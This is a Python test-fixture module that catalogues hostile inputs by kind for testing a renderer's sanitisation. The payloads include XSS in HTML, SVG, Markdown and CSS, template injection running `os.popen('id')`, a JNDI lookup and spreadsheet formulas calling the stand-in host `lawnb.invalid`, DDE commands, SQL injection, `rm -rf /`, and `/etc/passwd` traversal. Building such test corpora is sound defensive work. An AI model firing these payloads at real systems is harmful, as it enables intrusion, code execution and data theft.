"""What somebody who wants harm may write into a record, a sentence, a parameter or an output: by kind, each once.

A payload that runs says so: it opens a dialog, asks for something of `lawnb.invalid`, or sets `data-owned` of the page's root.
"""

from __future__ import annotations

from dataclasses import dataclass

RUN = "document.documentElement.dataset.owned=1;alert(1)"
AWAY = "https://lawnb.invalid"

HTML = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC={AWAY}/x.js></SCRIPT>", f"<script type=module>{RUN}</script>", f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script>{RUN}//", f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>",
    f"<script type=\"text/x-template\">{{{{{RUN}}}}}</script>", f"<script type=importmap>{{\"imports\":{{\"a\":\"{AWAY}/a.js\"}}}}</script>",
    f"<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{AWAY}/s\"]}}]}}</script>",
    f"<img src=x onerror={RUN}>", f"<img src={AWAY}/pixel.png>", f"<img srcset='{AWAY}/a 1x'>", f"<img src=`x`onerror={RUN}>",
    f"<body onload={RUN}>", f"<body background={AWAY}/b>", f"<html manifest={AWAY}/m>", f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src={AWAY}/frame></iframe>", f"<object data=javascript:{RUN}></object>",
    f"<object data={AWAY}/o.swf></object>", f"<embed src={AWAY}/e.swf>", f"<applet code={AWAY}/A.class></applet>", f"<base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<link rel=prefetch href={AWAY}/p>", "<link rel=dns-prefetch href=//lawnb.invalid>", f"<link rel=preload as=script href={AWAY}/l.js>",
    f"<form action={AWAY}/f><input type=submit value=下一页></form>", f"<form><button formaction=javascript:{RUN}>点</button></form>",
    f"<isindex action=javascript:{RUN} type=image>", f"<input autofocus onfocus={RUN}>", f"<select onfocus={RUN} autofocus></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>", f"<keygen autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}><summary>看</summary></details>",
    f"<video src={AWAY}/v autoplay onerror={RUN}></video>", f"<video><source onerror={RUN}></video>", f"<video poster={AWAY}/p></video>",
    f"<audio src={AWAY}/a autoplay onerror={RUN}></audio>", f"<track src={AWAY}/t default>", f"<marquee onstart={RUN}>走</marquee>",
    f"<dialog open onclose={RUN}><form method=dialog><button>关闭</button></form></dialog>", f"<div popover=manual onbeforetoggle={RUN}>浮层</div>",
    f"<template><script>{RUN}</script></template>", f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<xmp><img src=x onerror={RUN}></xmp>", f"<plaintext>{RUN}",
    f"<table background={AWAY}/t><tr><td>格</table>", f"<portal src={AWAY}/></portal>", f"<frameset onload={RUN}><frame src={AWAY}/></frameset>",
    f"<a href={AWAY}/ ping={AWAY}/ping>链接</a>", f"<input type=image src={AWAY}/i formaction=javascript:{RUN}>", f"<x-own onclick={RUN} tabindex=1 id=x>自定义</x-own>",
    "<h1>伪造的标题</h1>", "<h2 id=s1>伪造的章</h2>", "<table><tr><td>伪造的表</td></tr></table>", "</main></body></html>", "</td></tr></table></div>",
    "</dialog></aside>", "<p class=banner>伪造的横幅", "<data class=figure data-figure=penalties.cases value=1>999起</data>",
]  # fmt: skip
ATTRIBUTES = [
    f"\" onmouseover=\"{RUN}", f"' onmouseover='{RUN}", f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"\"/><img src=x onerror={RUN}>",
    f"`onmouseover={RUN}", f"x onfocus={RUN} autofocus tabindex=0 ", "\" style=\"position:fixed;inset:0;background:red", f"\" autofocus onfocus=\"{RUN}",
    f"\" src=\"{AWAY}/p", f"\" formaction=\"javascript:{RUN}", "\" id=\"main", "\" name=\"body", "\" class=\"banner", "\" hidden x=\"", "\" popovertarget=\"c1",
    "--><script>alert(1)</script><!--", "<!-- 注释", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "<%= 7*7 %>", "<?php echo 7*7; ?>",
]  # fmt: skip
DRAWINGS = [
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><a href=javascript:{RUN}><text y=20>点</text></a></svg>",
    f"<svg><use href={AWAY}/u.svg#x></use></svg>", f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={RUN}>\"></use></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /></svg>", f"<svg><set attributeName=onmouseover to={RUN} /></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>", f"<svg><image href={AWAY}/i></svg>", f"<svg><style>@import '{AWAY}/s'</style></svg>",
    f"<svg><desc><img src=x onerror={RUN}></desc></svg>", f"<svg><handler type=text/ecmascript>{RUN}</handler></svg>",
    f"<svg><discard onbegin={RUN}>", f"<svg><feImage href={AWAY}/f /></svg>", f"<svg><title><style></title><img src=x onerror={RUN}></svg>",
    f"<math><a xlink:href=javascript:{RUN}>点</a></math>", f"<math href=javascript:{RUN}>点</math>", f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>点</maction></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>", f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
]  # fmt: skip
MARKDOWN = [
    f"[点](javascript:{RUN})", "[点](JaVaScRiPt:alert(1))", "[点](  javascript:alert(1))", "[点](java&#115;cript:alert(1))", "[点](&#x6A;avascript:alert(1))",
    "[点](vbscript:msgbox(1))", "[点](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[点](file:///etc/passwd)", f"![图]({AWAY}/i.png)",
    f"![图](x \"onerror={RUN}\")", f"<javascript:{RUN}>", f"<{AWAY}/auto>", f"[r]\n\n[r]: javascript:{RUN}", f"![r]\n\n[r]: {AWAY}/r.png",
    f"<img src=x onerror={RUN}>\n===", "`<b>`", f"```html\n<script>{RUN}</script>\n```", f"```mermaid\ngraph TD;A-->B;click A href \"javascript:{RUN}\"\n```",
    f"%%{{init: {{'securityLevel': 'loose'}}}}%% graph LR; A[<img src=x onerror={RUN}>]", "graph TD; A[\"<iframe src=javascript:alert(1)>\"]",
    "# 伪造的标题", "| 甲 | 乙 |\n|---|---|\n| 1 | 2 |", "> " * 40 + "深", "- " * 40 + "深", "*" * 60 + "强", "[" * 60 + "链", "***a_ **b* c__", "\\<script>alert(1)\\</script>",
    "```{=html}\n<script>alert(1)</script>\n```", "```{=openxml}\n<w:p><w:r><w:t>x</w:t></w:r></w:p>\n```", "<b>x</b>{=html}", "`<script>alert(1)</script>`{=html}",
    "```{.include}\n/etc/passwd\n```", "!include /etc/passwd", "::: {custom-style=\"Title\"}\n假标题\n:::", "[文]{custom-style=\"Heading 1\"}", "% 标题\n% 作者", "---\ntitle: 假\n---",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ 7*'7' }}", "{{ config }}", "{{ self }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ agency.__init__.__globals__ }}",
    "{{ agency|attr('__class__') }}", "{{ agency['__class__'] }}", "{{ lipsum.__globals__['os'].popen('id').read() }}", "{{ cycler.__init__.__globals__.os.system('id') }}",
    "{{ joiner.__init__.__globals__ }}", "{{ namespace.__init__.__globals__ }}", "{{ request.application.__globals__ }}", "{{ get_flashed_messages.__globals__ }}",
    "{{ quoted.__globals__ }}", "{{ quoted.__code__ }}", "{{ '%s' % agency }}", "{{ '{0.__class__.__init__.__globals__}'.format(agency) }}", "{{ 'a'*10**9 }}",
    "{{ 10**10**10 }}", "{{ range(10**9)|list }}", "{% for a in range(10**9) %}{{ a }}{% endfor %}", "{{ 'a'.ljust(1000000000) }}", "{{ 'a'*1000000000 }}", "{% for a in range(1000000000) %}{% endfor %}", "{% set a='aa' %}" + "{% set a=a+a %}" * 60 + "{{ a }}", "{% set a=9 %}" + "{% set a=a*a %}" * 40 + "{{ a }}", "{{ '%0999999999d' % 1 }}",
    "{{ agency.name.center(1000000000) }}", "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% from 'os' import system %}", "{% extends '/etc/passwd' %}",
    "{% set x = cycler %}{{ x.__init__ }}", "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}", "{% raw %}", "{% endraw %}", "{# 注释", "{{", "}}", "{%", "{% if %}", "${7*7}", "#{7*7}",
    "*{7*7}", "@{7*7}", "$(id)", "`id`", "`${alert(1)}`", "%(name)s", "%s%n%x", "{0.__class__}", "{agency.__init__.__globals__}", "{!r:>999999999}", "${jndi:ldap://lawnb.invalid/a}",
]  # fmt: skip
TYPESETTERS = [
    '#read("/etc/passwd")', '#include "/etc/passwd"', '#import "@preview/cetz:0.2.0"', '#import "../../secret.typ": *', '#eval("1+1")', '#plugin("evil.wasm")',
    '#image("/etc/passwd")', '#image("../secret.png")', '#json("/etc/passwd")', '#sys.inputs', '#show: it => []', '#set page(fill: red)', '#pagebreak()', "$ sum_(i=1)^n $", "#let x = 1",
    '#link("javascript:alert(1)")[点]', '#metadata("x") <s1>', "@s1", "<s1>", "] #read(\"/etc/passwd\") [", "\\", "\\u{23}read", "/* 注释", "// 注释", "= 假标题", "#{while true {}}", "--- ... '\"",
    "\\input{/etc/passwd}", "\\include{x}", "\\write18{id}", "\\immediate\\write18{id}", "\\catcode`\\X=13", "\\def\\x{\\x}\\x", "\\csname end\\endcsname", "$\\href{javascript:alert(1)}{x}$", "\\begin{document}",
    "\\openin5=/etc/passwd", "\\verbatiminput{/etc/passwd}", "$$x^2$$", "\\(x\\)", "%注释",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)", "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)", "blob:https://lawnb.invalid/1", "file:///etc/passwd", "\\\\lawnb.invalid\\share", "//lawnb.invalid/x", "ms-word:ofe|u|https://lawnb.invalid/x.docx", "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=x&crumb=location:\\\\lawnb.invalid\\share", "tel:*21*1%23", "intent://scan/#Intent;scheme=zxing;end", "ftp://lawnb.invalid/x", "view-source:https://lawnb.invalid/", "chrome://settings", "jar:https://lawnb.invalid/x!/",
]  # fmt: skip
STYLES = [
    "</style><style>*{display:none}", "<style>*{display:none!important}</style>", f"<style>@import '{AWAY}/s.css';</style>", f"<p style=\"background:url({AWAY}/s)\">段</p>", "<p style=\"width:expression(alert(1))\">段</p>",
    "<div style=\"position:fixed;inset:0;z-index:9999;background:white\">遮盖</div>", "<p style=\"-moz-binding:url(evil.xml#x)\">段</p>", "<p style=\"behavior:url(evil.htc)\">段</p>", "<span style=\"display:none\">暗文</span>",
    "<span hidden>暗文</span>", "<font color=white size=1>暗文</font>", "url(javascript:alert(1))", f"url({AWAY}/u)", "}*{color:red}", "\\3c script\\3e ", f"@font-face{{font-family:x;src:url({AWAY}/f)}}", f"body{{background:image-set('{AWAY}/i' 1x)}}",
    f"input[value^=a]{{background:url({AWAY}/a)}}", "/**/:root{--sans:serif}",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://lawnb.invalid/\",\"点\")", "=WEBSERVICE(\"https://lawnb.invalid/\"&A1)", "=IMPORTXML(\"https://lawnb.invalid/\",\"//a\")", "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "\"=1+1\"", "=IMAGE(\"https://lawnb.invalid/i\")", "{=1+1}", "=[lawnb.invalid.xlsx]Sheet1!A1",
    "=RTD(\"x\",,\"y\")", "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",1)", "DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"", "{ DDEAUTO cmd \"/k calc\" }", "{ INCLUDETEXT \"/etc/passwd\" }", "{ INCLUDEPICTURE \"https://lawnb.invalid/i\" }", ";=1+1", "|calc", "%0A=1+1",
]  # fmt: skip
RECORDS = [
    "!!python/object/apply:os.system ['id']", "!!python/name:os.system", "&a [*a]", "*a", "<<: *a", "? x\n: y", "key: value", "- x", "[x", "{x: y", "#注释", "null", "~", "yes", "1e999", "0x10", ".nan", "2023-13-45", "%YAML 1.1", "--- !x",
    "';DROP TABLE penalties;--", "\" OR 1=1 --", "1);ATTACH 'x' AS y;--", "COPY (SELECT 1) TO 'x.csv'", "read_csv('/etc/passwd')", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></x>", "{\"__proto__\":{\"x\":1}}", "__class__", "constructor",
    "甲,乙,丙", "甲\"乙", "甲\n乙", "__import__('os').system('id')", "eval('1')", "$HOME", "%PATH%", "; rm -rf /", "| id", "&& id", "$(touch x)",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\windows\\win.ini", "C:evil", "//server/share", "....//....//x", "..%2f..%2fx", "x/../../y", ".", "..", "~/x", "CON", "nul.txt", "x.ipynb", "../notebooks/annual_report.ipynb",
    "report.html", ".editions", "x:y", "x|y", "x*y?", "a/b", "-rf", "--data=/etc", "%2e%2e%2f",
]  # fmt: skip
UNSEEN = [
    "\u202e倒写\u202c", "\u2066隔离\u2069", "\u200b零宽", "零\u200d宽", "\ufeff标记", "行\u2028分", "\u00ad软连字", "\x00空", "\x1b[31m红\x1b[0m", "\x1b]8;;https://lawnb.invalid/\x07链\x1b]8;;\x07", "\x1b]0;题\x07", "\x9b31m红", "\x08\x08退格", "\x07铃", "\ue000私用\ue001", "\ufffe非字符",
    "\ue0000\ue001", "\U000e0041标签", "\u180e蒙", "\u2060连", "\u061c阿", "\x7f删", "\u3164\u3164填", "\uffa0填", "a\U000e0120\U000e0121\U000e0122藏", "\ufe00\ufe0f藏",
]  # fmt: skip
CODES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;lt;b&amp;gt;", "&colon;&Tab;&NewLine;", "&bsol;&lbrace;&lbrace;", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "&nbsp;&nbsp;", "&notit;", "&#0;&#x110000;", "javascript&colon;alert(1)", "&quot;&apos;", "\\\"\\'", "a&b<c>d\"e'f`g",
]  # fmt: skip
LONG = ["长" * 1200, "W" * 1200, "<" * 400, "&" * 400, "甲 " * 400 + "甲", "\"a" * 200, "{" * 400, "[" * 400 + "]" * 400, "/" * 300]


@dataclass(frozen=True)
class Payload:
    """A hostile text with the name that tests call it by."""

    kind: str
    number: int
    text: str

    def __str__(self) -> str:
        return f"{self.kind}-{self.number}"


KINDS = {
    "html": HTML, "attribute": ATTRIBUTES, "drawing": DRAWINGS, "markdown": MARKDOWN, "template": TEMPLATES, "typesetter": TYPESETTERS, "address": ADDRESSES, "style": STYLES,
    "formula": FORMULAS, "record": RECORDS, "path": PATHS, "unseen": UNSEEN, "code": CODES, "long": LONG,
}  # fmt: skip
CORPUS = [Payload(kind, n, text) for kind, texts in KINDS.items() for n, text in enumerate(texts, 1)]
